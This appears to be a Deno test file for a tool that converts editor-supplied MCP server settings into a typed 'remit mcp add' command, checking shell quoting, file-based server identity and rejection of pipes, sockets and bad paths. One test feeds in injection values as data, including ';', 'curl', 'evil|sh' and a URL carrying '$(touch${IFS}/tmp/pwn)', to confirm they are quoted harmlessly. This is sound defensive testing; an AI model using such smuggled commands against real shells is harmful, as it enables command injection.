import assert from "node:assert/strict";
import { dirname, join } from "node:path";
import type { McpServer } from "@agentclientprotocol/sdk";
import { loadConfig } from "../../config/files.ts";
import { type FreshCommand, freshCommand } from "../_fixture/mcp_command.ts";
import { fakeKernel } from "../_fixture/world.ts";
import { registryOf } from "../mcp/work.ts";
import { readHanded } from "./handed.ts";
import { makeHandedServers } from "./servers.ts";

/** What mallory's project has an editor hand over, `parts` of it otherwise. */
function stdio(parts: Partial<Extract<McpServer, { readonly command: string }>> = {}): McpServer {
  return { name: "x", command: "node", args: [], env: [], ...parts };
}

/** Servers of a session over alice's folder; each question is answered with `allow`, and all that is told is kept. */
async function session(
  servers: readonly McpServer[],
  { command = freshCommand(), yaml = "", allow = false }: {
    readonly command?: FreshCommand;
    readonly yaml?: string;
    readonly allow?: boolean;
  } = {},
) {
  const { hands: { disk, around }, places } = command;
  disk.makeFolder(dirname(places.config), 0o700);
  disk.write(places.config, `version: 1\n${yaml}`);
  const folder = around.cwd;
  const config = loadConfig(disk, places, { folder, mounts: [] });
  const { link } = await fakeKernel({ mcpLend: () => null });
  const handed = makeHandedServers(command, { servers, setting: { folder, config }, link });
  const told: string[] = [], asked: string[] = [];
  const settle = async () => {
    const found = await handed.settle({
      voice: {
        update: () => Promise.resolve(),
        ask: ({ toolCall }) => {
          asked.push(toolCall.toolCallId);
          return Promise.resolve(allow ? "allow" : "deny");
        },
        text: () => Promise.resolve(undefined),
      },
      signal: new AbortController().signal,
    }, (text) => Promise.resolve(void told.push(text)));
    return { found, told: told.join("\n") };
  };
  return { command, folder, told, asked, settle };
}

Deno.test("the command that alice is told to type runs nothing but what it says", async () => {
  const typed = async (server: McpServer): Promise<string> => {
    const at = await session([server]);
    return (await at.settle()).told;
  };
  assert.match(
    await typed(stdio({ args: ["/srv/x.js", ";", "curl", "evil|sh", "it's"] })),
    /type in a terminal: `remit mcp add x -- node \/srv\/x\.js ';' curl 'evil\|sh' 'it'\\''s'`$/,
  );
  const url = { type: "http" as const, name: "x", url: "https://e.org/$(touch${IFS}/tmp/pwn)" };
  assert.match(
    await typed({ ...url, headers: [{ name: "X-Key", value: "k" }] }),
    /`remit mcp add x 'https:\/\/e\.org\/\$\(touch\$\{?[^ ]*\)' --header x-key`$/,
  );
  const long = await typed(stdio({ args: ["a".repeat(300), "b".repeat(300)] }));
  assert.match(long, /add it by its configuration file, `remit mcp import`$/);
  assert.doesNotMatch(long, /mcp add|aaa/);
  assert.doesNotMatch(await typed(stdio({ args: ["a`b"] })), /mcp add/);
});

Deno.test("a file that a command names is the server's own: with other bytes it is another server", () => {
  const command = freshCommand();
  const { hands: { disk, around: { cwd } } } = command;
  const keyOf = (words: readonly string[]): string => {
    const [program = "", ...args] = words;
    return readHanded(registryOf(command), stdio({ command: program, args }), cwd).key;
  };
  disk.makeFolder(join(cwd, "sub"));
  for (
    const [at, ...words] of [
      ["S.py", "uv", "run", "S.py"],
      ["S.py", "uv", "run", "--with", "mcp", "S.py"],
      ["sub/S.py", "uv", "--directory", "sub", "run", "S.py"],
      ["S.py", "sh", "-c", "python3 S.py"],
      ["S.py", "python3", "-W", "ignore", "S.py"],
      ["A.js", "node", "--import", "./A.js", "S.js"],
      ["A.js", "node", "--import=A.js", "S.js"],
    ]
  ) {
    const file = join(cwd, at ?? "");
    disk.write(file, "one");
    const before = keyOf(words);
    assert.equal(keyOf(words), before);
    disk.write(file, "two");
    assert.notEqual(keyOf(words), before, words.join(" "));
    // All but its bytes is the same.
    assert.equal(keyOf(words).split(" ")[0], before.split(" ")[0]);
  }
});

Deno.test("a device, a pipe, a socket and a name that can be none hold up nothing", async () => {
  const command = freshCommand();
  const { hands: { around: { cwd } } } = command;
  const pipe = join(cwd, "pipe"), socket = join(cwd, "socket"), loop = join(cwd, "loop");
  await new Deno.Command("mkfifo", { args: [pipe] }).output();
  using _listener = Deno.listen({ transport: "unix", path: socket });
  await Deno.symlink(loop, loop);
  const at = await session(
    ["/dev/zero", pipe, socket, loop, `/${"a".repeat(400)}`, "/a\0b"].map((path) =>
      stdio({ command: "cat", args: [path] })
    ),
    { command },
  );
  const { told } = await at.settle();
  assert.equal(told.match(/is not used/g)?.length, 6, told);
});
